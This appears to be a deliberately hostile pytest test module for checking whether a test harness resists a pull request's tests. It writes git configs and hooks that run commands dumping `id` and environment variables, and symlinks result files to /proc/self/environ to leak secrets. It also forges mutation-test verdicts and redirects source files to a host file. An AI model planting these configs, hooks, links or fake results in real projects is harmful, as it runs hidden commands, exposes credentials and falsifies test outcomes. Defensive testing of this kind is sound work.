"""Hostile on purpose (tests/test_sandbox_door.py): what a pull request's own tests could do to
the tree they run in, aimed at the host's work on that tree *after* the run. Every attempt is
one the host must not fall for; none needs to escape the sandbox."""

import json
import os
import subprocess

TARGETS = json.load(open(os.path.join(os.path.dirname(__file__), "door_targets.json")))
MARKER = TARGETS["marker"]
HOST_FILE = TARGETS["host_file"]
RUN = f"sh -c 'id > {MARKER}; env >> {MARKER}'"
QUOTED = f'"{RUN}"'  # a git config value: unquoted, `;` would start a comment
EVIL_CONFIG = (
    "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
    f"\tfsmonitor = {QUOTED}\n\thooksPath = /testbed/.hooks\n\tpager = {QUOTED}\n\teditor = {QUOTED}\n"
    f"\tsshCommand = {QUOTED}\n\tgitProxy = {QUOTED}\n"
    f'[filter "evil"]\n\tclean = {QUOTED}\n\tsmudge = {QUOTED}\n\tprocess = {QUOTED}\n\trequired = true\n'
    f'[diff "evil"]\n\ttextconv = {QUOTED}\n\tcommand = {QUOTED}\n'
    f"[credential]\n\thelper = !{QUOTED}\n"
)
RESULT_NAMES = (
    "results.jsonl",
    "baseline.json",
    "current.txt",
    "unstable.txt",
    "again.json",
    "settings.json",
    "_spice_mutants.py",
    "_spice_rerun.py",
    "_spice_support.py",
)


def _quietly(action, *args):
    try:
        action(*args)
    except Exception:  # every refusal is the point; the run goes on
        pass


def _write(path, text):
    with open(path, "w") as fh:
        fh.write(text)


def _evil_repository(where):
    """A git directory at `where` whose config runs a command for everything."""
    for sub in ("objects/info", "refs/heads", "refs/tags"):
        _quietly(os.makedirs, os.path.join(where, sub))
    _quietly(_write, where + "/HEAD", "ref: refs/heads/main\n")
    _quietly(_write, where + "/config", EVIL_CONFIG)


def _point_git_at_ours(folder):
    """`folder`'s `.git` (a directory or a `gitdir:` file) replaced by a pointer to an evil
    repository beside it: a relative path, which means the same on the host."""
    _evil_repository(os.path.join(folder, ".evil"))
    _quietly(subprocess.call, ["rm", "-rf", os.path.join(folder, ".git")])
    _quietly(_write, os.path.join(folder, ".git"), "gitdir: .evil\n")
    _quietly(_write, os.path.join(folder, ".gitattributes"), "* filter=evil diff=evil\n")


def _evil_git():
    """The tree's git made a repository of ours, every file routed through its filter; hooks
    too. Wherever a `.git` of the tree can be reached: at /testbed, and under the job's
    scratch, where a worktree of the host's would be writable."""
    _quietly(os.makedirs, "/testbed/.hooks")
    for hook in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction"):
        _quietly(_write, "/testbed/.hooks/" + hook, "#!/bin/sh\n{0}\n".format(RUN))
        _quietly(os.chmod, "/testbed/.hooks/" + hook, 0o755)
    _quietly(_write, "/testbed/.git/config", EVIL_CONFIG)
    _point_git_at_ours("/testbed")
    for top in ("/spice/job", "/tmp"):
        for root, dirs, files in os.walk(top):
            if ".git" in files or ".git" in dirs:
                _point_git_at_ours(root)


def _plugin_dirs():
    found = {"/spice/job", "/tmp", "/testbed", "/spice/plugin"}
    for name in ("SPICE_PLUGIN_DIR", "SPICE_RERUN_DIR"):
        if os.environ.get(name):
            found.add(os.environ[name])
    return sorted(found)


def _links_to_environ():
    """Every result file a plugin could write, made a link to /proc/self/environ: a host that
    reads it reads its own secrets into the output."""
    for folder in _plugin_dirs():
        for name in RESULT_NAMES:
            path = os.path.join(folder, name)
            _quietly(os.unlink, path)
            _quietly(os.symlink, "/proc/self/environ", path)


def _forge_verdicts():
    """Fake verdicts everywhere a plugin's results could be read from, and from a process of
    the tests' own, on the channel's usual descriptor."""
    killed = "".join(
        json.dumps({"kind": "result", "id": n, "killed_by": "tests/test_victim.py::test_add"})
        + "\n"
        for n in list(range(64)) + list(range(100000, 100064))
    )
    for folder in _plugin_dirs():
        _quietly(_write, os.path.join(folder, "results.jsonl"), killed)
    line = json.dumps({"kind": "result", "id": 0, "killed_by": "forged"})
    _quietly(subprocess.call, ["sh", "-c", f"echo '{line}' >&3"])
    print(killed)  # the log is not the channel


def _source_to_host_file():
    """The fixed source (and the test's file) made links to a host file: a host writing a
    mutant back, or reading the source to mutate, would go through them."""
    for path in ("/testbed/victim.py",):
        _quietly(os.unlink, path)
        _quietly(os.symlink, HOST_FILE, path)


def _attacks():
    """Which attacks this instance makes: named by its test patch (so one environment serves
    every variant), each alone, as the host meets them one at a time."""
    try:
        with open("/testbed/tests/door_attacks.txt") as fh:
            return set(fh.read().split())
    except OSError:
        return set()


def pytest_configure(config):
    if "results" in _attacks():
        _links_to_environ()
    if "git" in _attacks():
        _evil_git()


def pytest_sessionfinish(session):
    attacks = _attacks()
    if "forge" in attacks:
        _forge_verdicts()
    if "results" in attacks:
        _links_to_environ()
    if "source" in attacks:
        _source_to_host_file()
    if "git" in attacks:
        _evil_git()
